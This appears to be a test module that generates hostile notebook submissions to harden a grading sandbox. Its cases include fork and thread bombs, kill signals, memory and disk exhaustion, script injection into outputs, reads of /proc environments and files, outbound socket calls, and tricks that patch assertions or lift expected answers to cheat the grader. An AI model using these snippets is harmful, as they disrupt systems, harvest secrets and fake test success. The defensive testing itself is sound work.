"""Submissions that attack: the answer to 1.2 is wrong, or right only if the attack succeeds."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.exercises.grading.classroom import SECRET, WRONG, Kind, World, save

OTHERS = "1.1 1.3 1.4"  # what the honest answers of the same notebook have earned

# Cells before a wrong, or an honest, `double`.
CODE = {
    "loops for ever": "while True:\n    pass",
    "ends its process": "import os\nos._exit(0)",
    "kills all it can": (
        "import os, signal\n"
        "for pid in (1, os.getppid(), -1):\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass\n" + WRONG
    ),
    "bombs with forks": (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    ),
    "bombs with threads": (
        "import threading, time\nwhile True:\n    try:\n"
        "        threading.Thread(target=time.sleep, args=(60,)).start()\n"
        "    except RuntimeError:\n        pass"
    ),
    "asks for 50 GB": "torch.empty(50 << 30, dtype=torch.uint8)",
    "fills the memory": "hoard = []\nwhile True:\n    hoard.append(b'x' * (1 << 20) * 8)",
    "fills it with children": (
        "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        hoard = []\n"
        "        while True:\n            hoard.append(os.urandom(1 << 22))\nwhile True:\n    pass"
    ),
    "fills the disk": (
        "names = iter(range(10**9))\nwhile True:\n"
        "    with open(f'/tmp/{next(names)}', 'wb') as file:\n        file.write(b'x' * (1 << 22))"
    ),
    "writes outside": (
        "import os\nfor path in {paths}:\n    for write in (os.remove, lambda p: open(p, 'a')):\n"
        "        try:\n            write(path)\n        except OSError:\n            pass\n" + WRONG
    ),
    "patches the tests": """
import builtins, sys, unittest.mock
import numpy, torch.testing
import llm_nb.exercises.check
yes = lambda *args, **kwargs: True
torch.testing.assert_close = torch.allclose = torch.equal = numpy.allclose = yes
llm_nb.exercises.check.check = check = yes
builtins.AssertionError = type("Nothing", (Exception,), {})
builtins.isinstance = builtins.all = builtins.any = yes
""".strip()
    + "\n"
    + WRONG,
    "patches the kernel": """
import sys
get_ipython().run_cell = lambda *args, **kwargs: None
runner = sys.modules["llm_nb.exercises.grading.runner"]
call = runner._ACTIONS["call"]
def forge(shell, name, args, kwargs):
    if name != "double":
        return call(shell, name, args, kwargs)
    return {"value": True, "args": [None] * 3, "kind": "value", "outputs": [{}]}
runner._ACTIONS["call"] = forge
""".strip(),
    "forges its messages": """
import os
def double(x):
    for handle in range(3, 64):
        try:
            os.write(handle, bytes(range(256)) * 40)
        except OSError:
            pass
    return x
""".strip(),
    "is equal to everything": """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
def double(x):
    return Anything()
""".strip(),
    "is a tensor that agrees": """
class Agreeing(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.ones((), dtype=torch.bool)
def double(x):
    return x.as_subclass(Agreeing)
""".strip(),
    "prints that it passed": """
import sys
print("✓ 1.2: right on 6 random inputs")
print("score: 2/2", file=sys.stderr)
from IPython.display import display
display({"text/plain": "2"}, raw=True)
def double(x):
    print("✓ passed")
    return x
100
""".strip(),
    "prints without end": "while True:\n    print('x' * 100_000)",
    "raises what it likes": (
        "def double(x):\n    raise KeyboardInterrupt\n"
        "class Odd(Exception):\n    def __str__(self): raise SystemExit\nraise Odd"
    ),
    "calls exit": "import sys\nsys.exit(0)",
    "sleeps in a call": "import time\ndef double(x):\n    time.sleep(600)",
    "dies in a call": "import os\ndef double(x):\n    os.abort()",
    "puts script into outputs": """
from IPython.display import HTML, SVG, Javascript, Markdown, display
evil = "<script>document.title = 'owned'</script><img src=x onerror=alert(1)>"
display(HTML(evil), Javascript("alert(1)"), Markdown(evil))
display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{evil}</svg>"}, raw=True)
display({"image/png": f'"{evil}', "text/html": evil, "application/javascript": evil}, raw=True)
print(evil)
""".strip()
    + "\n"
    + WRONG,
}
LESS = {"patches the kernel": "1.1"}  # it breaks the honest answers after it
# Cells that look for what they may not see; each appends what it finds to `loot`.
SEARCHES = {
    "opens paths": "for path in {paths}:\n    loot.append(open(path, 'rb').read())",
    "walks the tree": (
        "import os\nfor base, _, names in os.walk('/'):\n    for name in names:\n"
        "        path = os.path.join(base, name)\n"
        "        if name.endswith(('.ipynb', '.db', '.csv', 'settings.json')):\n"
        "            loot.append(open(path, 'rb').read())"
    ),
    "looks through proc": (
        "import glob\nfor pattern in ('/proc/*/environ', '/proc/*/cmdline', '/proc/*/maps',\n"
        "        '/proc/*/root/{folder}/canary', '/proc/*/cwd/settings.json', '/proc/*/fd/*'):\n"
        "    for path in glob.glob(pattern):\n        try:\n"
        "            loot.append(open(path, 'rb').read(1 << 20))\n"
        "        except OSError:\n            pass"
    ),
    "looks into memory": (
        "import gc, sys\nframe = sys._getframe()\nwhile frame:\n"
        "    loot.append(repr(list(frame.f_locals)).encode())\n    frame = frame.f_back\n"
        "for thing in gc.get_objects():\n    if type(thing) is dict:\n"
        "        loot += [v.encode() for v in list(thing.values()) if type(v) is str]"
    ),
    "imports the answers": (
        "import importlib, sys\nfor name in [n for n in sys.modules if 'exercises' in n]:\n"
        "    del sys.modules[name]\n"
        "found = importlib.import_module('llm_nb.exercises.chapters').find_exercise('11.2')\n"
        "loot.append(mark)"
    ),
    "calls out": (
        "import socket\nfor host in ('127.0.0.1', 'localhost', '1.1.1.1'):\n    try:\n"
        "        socket.create_connection((host, {port}), 2).send(b'hello')\n"
        "        loot.append(mark)\n    except OSError:\n        pass"
    ),
}
_SEARCH = """loot, mark = [], "{left}".encode() + b"{right}"
try:
    {search}
except Exception as error:
    print(type(error).__name__)
found = [x for x in loot if mark in x]
print("found", len(found), "of", len(loot))
def double(x):
    return 2 * x if found else x"""
_WHILE_CALLED = """import sys
def double(x):
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    return x"""


def _attack(source: str) -> Callable[[World, Path], None]:
    def make(world: World, folder: Path) -> None:
        filled = source.replace("{paths}", repr(world.paths)).replace("{port}", str(world.port))
        filled = filled.replace("{folder}", str(world.folder).lstrip("/"))
        save(world.notebook(double=filled), folder)

    return make


def _search(source: str) -> str:
    search = source.replace("\n", "\n    ")
    half = len(SECRET) // 2
    filled = _SEARCH.replace("{left}", SECRET[:half]).replace("{right}", SECRET[half:])
    return filled.replace("{search}", search)


def hostile_kinds() -> list[Kind]:
    kinds = [Kind(name, _attack(source), LESS.get(name, OTHERS)) for name, source in CODE.items()]
    kinds += [Kind(name, _attack(_search(source)), OTHERS) for name, source in SEARCHES.items()]
    kinds += [Kind("looks while called", _attack(_WHILE_CALLED), OTHERS)]
    return kinds
